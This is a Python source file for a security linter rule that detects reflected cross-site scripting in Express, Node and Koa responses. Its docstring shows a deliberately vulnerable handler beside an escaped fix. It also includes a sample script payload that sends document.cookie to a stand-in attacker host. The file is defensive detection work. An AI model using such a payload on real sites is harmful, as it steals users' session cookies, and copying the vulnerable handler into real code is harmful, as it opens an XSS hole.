"""## What it does
Finds server-side JavaScript that answers with HTML built from the request
without escaping: Express's ``res.send(...)``, Node's ``res.write(...)`` and
``res.end(...)``, and Koa's ``ctx.body = ...`` given a string with markup
(``<``) made by a template literal, ``+``, ``.concat`` or ``util.format``
from ``req.query``, ``req.params``, ``req.body``, ``req.cookies``,
``req.headers`` (or ``ctx.query``, ``ctx.request.body``), directly or
through a variable of the example.  Values passed through an escaping
function (``escapeHtml``, ``he.encode``, ``_.escape``, ``DOMPurify.sanitize``)
are fine; so is a response sent as JSON (``res.json``).

## Why is this bad?
Express sends a string as ``text/html``, so a value such as
``<script>fetch('//evil.example/?c='+document.cookie)</script>`` in a link's
query string runs as this site's script for whoever follows the link:
reflected cross-site scripting.

## Example
```javascript
app.get("/hello", (req, res) => {
  res.send(`<h1>Hello, ${req.query.name}!</h1>`);
});
```

## Use instead
```javascript
const escapeHtml = require("escape-html");

app.get("/hello", (req, res) => {
  res.send(`<h1>Hello, ${escapeHtml(req.query.name)}!</h1>`);
});
```
Or render a template whose engine escapes by default (`res.render`).

## References
- [CWE-79: Improper Neutralization of Input During Web Page Generation](https://cwe.mitre.org/data/definitions/79.html)
- [OWASP Cross Site Scripting Prevention Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html)
"""

from __future__ import annotations

from typing import Any, Iterator, Optional

from ...languages.javascript import JavaScriptView
from ...model import Hit
from ..registry import rule
from ._values import from_request, is_outside

RESPONSE_OBJECTS = ("res", "response", "resp")
RESPONSE_CALLS = frozenset({"send", "write", "end"})
BODY_TARGETS = frozenset({"ctx.body", "this.body", "ctx.response.body"})


@rule(
    id="DSW012",
    symbol="js-reflected-xss",
    title="HTML response built from the request without escaping (JavaScript)",
    severity="high",
    cwe=79,
    languages=("javascript",),
    equivalent="none (Semgrep javascript.express.security.injection.raw-html-format)",
    message="answers with HTML built from the request, unescaped: a crafted link runs script on this site; "
            "escape the value or render a template",
    use_instead="res.send(`<h1>Hello, ${escapeHtml(req.query.name)}</h1>`) or res.render(...)",
    name_triggers=("send", "write", "end", "body"),
)
def check(js: JavaScriptView) -> Iterator[Hit]:
    for call in js.calls_named(*RESPONSE_CALLS):
        if not call.written.startswith(tuple(f"{name}." for name in RESPONSE_OBJECTS)) or not call.arguments:
            continue
        found = _unescaped_request_html(js, call.arguments[0])
        if found:
            yield Hit(js.line(call.node), js.column(call.node), f"`{call.written}(...)` answers with HTML built from "
                      f"`{found}` without escaping: a crafted link runs script on this site (reflected XSS); escape "
                      "it (`escape-html`) or render a template")
    for name, values in js.assignments.items():
        if name in BODY_TARGETS:
            for value in values:
                found = _unescaped_request_html(js, value)
                if found:
                    yield Hit(js.line(value), js.column(value), f"`{name}` is HTML built from `{found}` without "
                              "escaping (Koa sends a string starting with `<` as HTML): reflected XSS; escape it")


def _unescaped_request_html(js: JavaScriptView, node: Any) -> Optional[str]:
    """The request value a string with markup carries unescaped, as written, or ``None``."""
    built, _ = js.built_through(node)
    if built is None or "<" not in built.text:
        return None
    for part in built.dynamic:
        if from_request(js, part) and is_outside(js, part):
            return js.text_of(part, 40)
    return None
